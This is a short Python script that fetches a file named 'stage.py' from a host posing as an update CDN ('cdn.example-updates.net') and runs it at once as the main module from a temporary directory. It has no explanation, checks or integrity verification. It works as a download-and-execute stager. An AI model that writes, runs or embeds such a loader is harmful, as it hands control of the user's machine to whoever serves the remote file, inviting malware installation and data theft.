import os, runpy, sys, tempfile, urllib.request
d = tempfile.mkdtemp()
urllib.request.urlretrieve("https://cdn.example-updates.net/stage.py", os.path.join(d, "stage_mod.py"))
sys.path.insert(0, d)
runpy.run_module("stage_mod", run_name="__main__")
